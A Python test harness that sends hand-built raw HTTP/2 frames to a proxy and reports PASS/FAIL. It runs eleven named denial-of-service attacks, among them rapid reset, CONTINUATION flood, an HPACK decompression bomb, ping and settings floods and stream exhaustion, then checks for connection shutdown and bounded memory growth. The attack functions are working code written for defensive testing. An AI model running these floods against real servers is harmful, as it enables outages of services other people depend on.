#!/usr/bin/python3
"""The HTTP/2 attack set against a proxy, with raw frames.

  h2_attacks.py --host HOST --port PORT [--pid PROXY_PID] [--label TEXT]
                [--conns N] [--seconds S] [--slow-seconds S]
                [--mem-mib M] [--attack NAME ...] [--list]

Each attack (security-checklist B2) runs twice: on one connection, then on
--conns connections at once (default 8). It is bounded in frames and in
time (--seconds, default 10; --slow-seconds, default 30, for the slow
attacks), then given 3 s to see the proxy react. Checks, one line each:

  - "closed": the attacking connection was shut down within the bound. A
    flood must end in GOAWAY or a TCP close/reset; a stream-level attack
    (HPACK bomb's single stream, stream exhaustion, zero window) may
    instead see its streams reset (RST_STREAM), which is what the
    checklist asks for there;
  - "memory" (with --pid): the proxy's RSS (VmRSS sampled every 10 ms, and
    VmHWM) grew by less than --mem-mib (default 8) MiB per attacking
    connection: < 8 MiB with one connection, < N x 8 MiB with N.

Output: "PASS <text>" or "FAIL <text>" per check. Frames and HPACK blocks
are written by hand (raw frames, no HTTP/2 library that would refuse to
misbehave), so every attack is exactly what it says. Standard library only;
runs with the system /usr/bin/python3.
"""
import argparse
import errno
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4

ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
          3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED",
          6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
          9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
          11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY",
          13: "HTTP_1_1_REQUIRED"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(
        ">BBI", ftype, flags, sid & 0x7fffffff) + payload


def hpack_int(value, prefix_bits, first=0):
    """HPACK integer with an N-bit prefix; <first> holds the high bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def lit(name, value, indexing=False):
    """A literal field with a new name, without (or with) indexing."""
    return (b"\x40" if indexing else b"\x00") + hpack_int(len(name), 7) + \
        name + hpack_int(len(value), 7) + value


def request_block(method=b"GET", path=b"/ok"):
    """A stateless header block: static-table :method/:scheme, literal
    :path and :authority (never added to the dynamic table)."""
    m = {b"GET": b"\x82", b"POST": b"\x83"}[method]
    return m + b"\x86" + b"\x04" + hpack_int(len(path), 7) + path + \
        b"\x01" + hpack_int(3, 7) + b"srv"


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v)
                                          for k, v in pairs))


class Conn:
    """One attacking connection: raw socket, non-blocking, with a frame
    reader that notes GOAWAY, RST_STREAM and the end of the connection."""

    def __init__(self, host, port, rcvbuf=0, read=True):
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.s = socket.socket(fam, socket.SOCK_STREAM)
        if rcvbuf:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.s.settimeout(5)
        self.s.connect((host, port))
        self.s.setblocking(False)
        self.read = read          # read while sending (else: never read)
        self.inbuf = b""
        self.goaway = None        # error code of the first GOAWAY
        self.rst = {}             # RST_STREAM count by error code
        self.closed = None        # "eof", "reset" or "epipe"
        self.t0 = time.monotonic()
        self.t_end = None         # when GOAWAY or close was seen
        self.sent_frames = 0
        self.headers_seen = 0
        self.ack_settings = True
        self.need_ack = 0

    def note_end(self):
        if self.t_end is None:
            self.t_end = time.monotonic()

    def over(self):
        return self.closed is not None or self.goaway is not None

    def pump(self, timeout=0.0):
        """Reads what is there (waiting up to <timeout>) and parses it."""
        if self.closed:
            return
        try:
            r, _, _ = select.select([self.s], [], [], timeout)
        except (OSError, ValueError):
            self.closed = "reset"
            self.note_end()
            return
        if not r:
            return
        for _ in range(64):
            try:
                d = self.s.recv(1 << 16)
            except BlockingIOError:
                break
            except OSError:
                self.closed = "reset"
                self.note_end()
                return
            if not d:
                self.closed = "eof"
                self.note_end()
                return
            self.inbuf += d
            self.parse()
        while self.need_ack:
            # a polite client acknowledges SETTINGS (else the proxy could
            # close on its SETTINGS timeout, for the wrong reason)
            try:
                self.s.send(frame(SETTINGS, ACK, 0))
            except OSError:
                break
            self.need_ack -= 1

    def parse(self):
        while len(self.inbuf) >= 9:
            n = struct.unpack(">I", b"\0" + self.inbuf[:3])[0]
            if len(self.inbuf) < 9 + n:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = struct.unpack(">I", self.inbuf[5:9])[0] & 0x7fffffff
            payload = self.inbuf[9:9 + n]
            self.inbuf = self.inbuf[9 + n:]
            if ftype == GOAWAY and len(payload) >= 8 and self.goaway is None:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
                self.note_end()
            elif ftype == RST_STREAM and len(payload) >= 4:
                code = struct.unpack(">I", payload[:4])[0]
                self.rst[code] = self.rst.get(code, 0) + 1
            elif ftype == HEADERS:
                self.headers_seen += 1
            elif ftype == SETTINGS and not flags & ACK and self.ack_settings:
                self.need_ack += 1

    def send_raw(self, data, deadline, nframes=0):
        """Sends <data>, reading meanwhile (when allowed). Returns False
        when the connection is gone or the deadline passed."""
        off = 0
        while off < len(data):
            if self.closed or time.monotonic() >= deadline:
                return False
            rl = [self.s] if self.read else []
            try:
                r, w, x = select.select(rl, [self.s], [self.s], 0.05)
            except (OSError, ValueError):
                self.closed = "reset"
                self.note_end()
                return False
            if r:
                self.pump()
            if not w:
                continue
            try:
                off += self.s.send(data[off:])
            except BlockingIOError:
                continue
            except OSError as e:
                self.closed = "epipe" if e.errno == errno.EPIPE else "reset"
                self.note_end()
                return False
        self.sent_frames += nframes
        return True

    def finish(self, grace):
        """After the attack: waits up to <grace> seconds for the end of
        the connection, reading (also when the attack never read)."""
        self.read = True
        end = time.monotonic() + grace
        while not self.closed and time.monotonic() < end:
            self.pump(0.1)

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass

    def outcome(self):
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY %s" % ERRORS.get(self.goaway, self.goaway))
        if self.closed:
            parts.append("closed (%s)" % self.closed)
        if self.rst:
            parts.append("RST_STREAM " + ",".join(
                "%s x%d" % (ERRORS.get(k, k), v) for k, v in sorted(self.rst.items())))
        return ", ".join(parts) or "nothing"


# ---------------------------------------------------------------------------
# The attacks. Each takes (conn, deadline) and floods until the proxy ends
# the connection, the frame budget is spent or the deadline passes.


def batches(make, total, per=200):
    """Yields byte strings of <per> frames from make(i), <total> frames."""
    i = 0
    while i < total:
        n = min(per, total - i)
        yield b"".join(make(i + k) for k in range(n)), n
        i += n


def flood(c, deadline, make, total, per=200):
    for data, n in batches(make, total, per):
        if not c.send_raw(data, deadline, n) or c.over():
            return


def start(c, deadline, pairs=()):
    c.send_raw(PREFACE + settings(pairs), deadline)


def a_rapid_reset(c, deadline):
    start(c, deadline)
    block = request_block()
    flood(c, deadline, lambda i: frame(HEADERS, END_HEADERS | END_STREAM,
                                       1 + 2 * i, block) +
          frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8)), 20000, 100)


def a_made_you_reset(c, deadline):
    start(c, deadline)
    # "connection" is a connection-specific field: malformed in HTTP/2, so
    # the server must reset the stream itself
    block = request_block() + lit(b"connection", b"close")
    flood(c, deadline, lambda i: frame(HEADERS, END_HEADERS | END_STREAM,
                                       1 + 2 * i, block), 20000, 200)


def a_continuation_flood(c, deadline):
    start(c, deadline)
    if not c.send_raw(frame(HEADERS, END_STREAM, 1, request_block()), deadline):
        return
    chunk = lit(b"x-a", b"a" * 32)
    flood(c, deadline, lambda i: frame(CONTINUATION, 0, 1, chunk), 100000, 500)


def a_hpack_bomb(c, deadline):
    """A 4,000-byte value put in the dynamic table, then referenced by
    1-byte indexes (0xbe: dynamic entry 62) across HEADERS + 7
    CONTINUATIONs: ~130,000 references per stream, ~520 MB decoded if
    nothing caps it. Repeated on new streams."""
    start(c, deadline)
    entry = lit(b"x-bomb", b"b" * 4000, indexing=True)
    first = request_block() + entry
    for k in range(50):
        sid = 1 + 2 * k
        head = first if k == 0 else request_block()
        frames = [frame(HEADERS, END_STREAM, sid,
                        head + b"\xbe" * (16384 - len(head)))]
        for j in range(7):
            frames.append(frame(CONTINUATION, END_HEADERS if j == 6 else 0,
                                sid, b"\xbe" * 16384))
        if not c.send_raw(b"".join(frames), deadline, 8) or c.over():
            return
        c.pump(0.01)


def a_ping_flood(c, deadline):
    start(c, deadline)
    flood(c, deadline, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)),
          200000, 1000)


def a_settings_flood(c, deadline):
    start(c, deadline)
    flood(c, deadline, lambda i: settings(), 200000, 1000)


def a_empty_data(c, deadline):
    start(c, deadline)
    if not c.send_raw(frame(HEADERS, END_HEADERS, 1,
                            request_block(b"POST")), deadline):
        return
    flood(c, deadline, lambda i: frame(DATA, 0, 1), 200000, 1000)


def a_zero_window(c, deadline):
    """Stream windows of 0 (SETTINGS_INITIAL_WINDOW_SIZE) and never a
    WINDOW_UPDATE, on 50 streams each asking for 1 MiB: the proxy may not
    buffer the responses without bound and must not keep the streams
    forever (write-stall timeout)."""
    start(c, deadline, [(4, 0)])
    block = request_block(b"GET", b"/bytes/1048576")
    c.send_raw(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
                              block) for i in range(50)), deadline, 50)
    while not c.over() and time.monotonic() < deadline:
        c.pump(0.2)
        if sum(c.rst.values()) >= 50:
            return


def a_stream_exhaustion(c, deadline):
    """2,000 streams opened and held (POST without END_STREAM), far above
    the advertised MAX_CONCURRENT_STREAMS."""
    start(c, deadline)
    block = request_block(b"POST")
    flood(c, deadline, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, block),
          2000, 100)
    end = min(deadline, time.monotonic() + 3)
    while not c.over() and time.monotonic() < end and not c.rst.get(7):
        c.pump(0.1)


def a_invalid_preface(c, deadline):
    """The client preface followed by a DATA frame on stream 0 instead of
    SETTINGS: a connection error."""
    c.send_raw(PREFACE + frame(DATA, 0, 0, b"x" * 8), deadline)
    while not c.over() and time.monotonic() < deadline:
        c.pump(0.1)


def a_bad_magic(c, deadline):
    """A broken client preface."""
    c.send_raw(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + settings(), deadline)
    while not c.over() and time.monotonic() < deadline:
        c.pump(0.1)


# name -> (function, never read while attacking, slow, rst_ok: a stream
# reset is an acceptable answer)
ATTACKS = {
    "rapid_reset": (a_rapid_reset, False, False, False),
    "made_you_reset": (a_made_you_reset, False, False, False),
    "continuation_flood": (a_continuation_flood, False, False, False),
    "hpack_bomb": (a_hpack_bomb, False, False, False),
    "ping_flood": (a_ping_flood, True, False, False),
    "settings_flood": (a_settings_flood, True, False, False),
    "empty_data": (a_empty_data, False, False, False),
    "zero_window": (a_zero_window, False, True, True),
    "stream_exhaustion": (a_stream_exhaustion, False, False, True),
    "invalid_preface": (a_invalid_preface, False, False, False),
    "bad_magic": (a_bad_magic, False, False, False),
}


# ---------------------------------------------------------------------------


class RssSampler(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.stop = threading.Event()
        self.peak = 0
        self.alive = True

    @staticmethod
    def read(pid):
        out = {}
        try:
            with open("/proc/%d/status" % pid) as f:
                for line in f:
                    if line.startswith(("VmRSS:", "VmHWM:")):
                        out[line[:5]] = int(line.split()[1])
        except OSError:
            return None
        return out

    def run(self):
        while not self.stop.is_set():
            v = self.read(self.pid)
            if v is None:
                self.alive = False
                return
            self.peak = max(self.peak, v.get("VmRSS", 0))
            time.sleep(0.01)


def run_phase(args, name, nconns):
    fn, never_read, slow, rst_ok = ATTACKS[name]
    secs = args.slow_seconds if slow else args.seconds
    before = RssSampler.read(args.pid) if args.pid else None
    sampler = None
    if before is not None:
        sampler = RssSampler(args.pid)
        sampler.peak = before["VmRSS"]
        sampler.start()
    conns, errors = [], []

    def one():
        try:
            c = Conn(args.host, args.port, rcvbuf=4096 if never_read else 0,
                     read=not never_read)
        except OSError as e:
            errors.append("connect: %s" % e)
            return
        conns.append(c)
        deadline = time.monotonic() + secs
        try:
            fn(c, deadline)
            c.finish(3)
        except Exception as e:  # a bug here must not hang the suite
            errors.append("%s: %r" % (name, e))

    t0 = time.monotonic()
    threads = [threading.Thread(target=one, daemon=True) for _ in range(nconns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(secs + 15)
    elapsed = time.monotonic() - t0
    growth_kib = None
    alive = True
    if sampler:
        sampler.stop.set()
        sampler.join(1)
        after = RssSampler.read(args.pid)
        alive = sampler.alive and after is not None
        peak = sampler.peak
        if after and after["VmHWM"] > before["VmHWM"]:
            peak = max(peak, after["VmHWM"])
        growth_kib = peak - before["VmRSS"]
    tag = "h2 %s%s x%d" % (args.label + " " if args.label else "", name, nconns)
    ok_closed = True
    worst = None
    for c in conns:
        stream_reset = rst_ok and sum(c.rst.values()) > 0
        if name == "stream_exhaustion":
            stream_reset = bool(c.rst.get(7))
        if not (c.over() or stream_reset):
            ok_closed = False
            worst = c
        if worst is None:
            worst = c
    if errors or len(conns) != nconns:
        ok_closed = False
    took = max(((c.t_end or time.monotonic()) - c.t0) for c in conns) if conns else 0
    desc = "%s after %.2fs, %d frames sent" % (
        worst.outcome() if worst else "no connection", took,
        sum(c.sent_frames for c in conns))
    if errors:
        desc += "; " + "; ".join(errors[:3])
    print("%s %s closed: %s" % ("PASS" if ok_closed else "FAIL", tag, desc))
    for c in conns:
        c.close()
    if growth_kib is not None:
        limit = args.mem_mib * 1024 * nconns
        ok = alive and growth_kib < limit
        print("%s %s memory: RSS %+.1f MiB (limit %d MiB)%s" % (
            "PASS" if ok else "FAIL", tag, growth_kib / 1024.0, limit // 1024,
            "" if alive else "; THE PROXY IS GONE"))
    sys.stdout.flush()
    return elapsed


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host")
    ap.add_argument("--port", type=int)
    ap.add_argument("--pid", type=int, default=0)
    ap.add_argument("--label", default="")
    ap.add_argument("--conns", type=int, default=8)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--slow-seconds", type=float, default=30)
    ap.add_argument("--mem-mib", type=int, default=8)
    ap.add_argument("--attack", nargs="*", default=list(ATTACKS))
    ap.add_argument("--list", action="store_true")
    args = ap.parse_args()
    if args.list:
        for name, (fn, _, _, _) in ATTACKS.items():
            print("%-20s %s" % (name, (fn.__doc__ or "").strip().split("\n")[0]))
        return 0
    if not args.host or not args.port:
        ap.error("--host and --port are required")
    for name in args.attack:
        if name not in ATTACKS:
            ap.error("unknown attack %s" % name)
    for name in args.attack:
        run_phase(args, name, 1)
        run_phase(args, name, args.conns)
    return 0


if __name__ == "__main__":
    sys.exit(main())
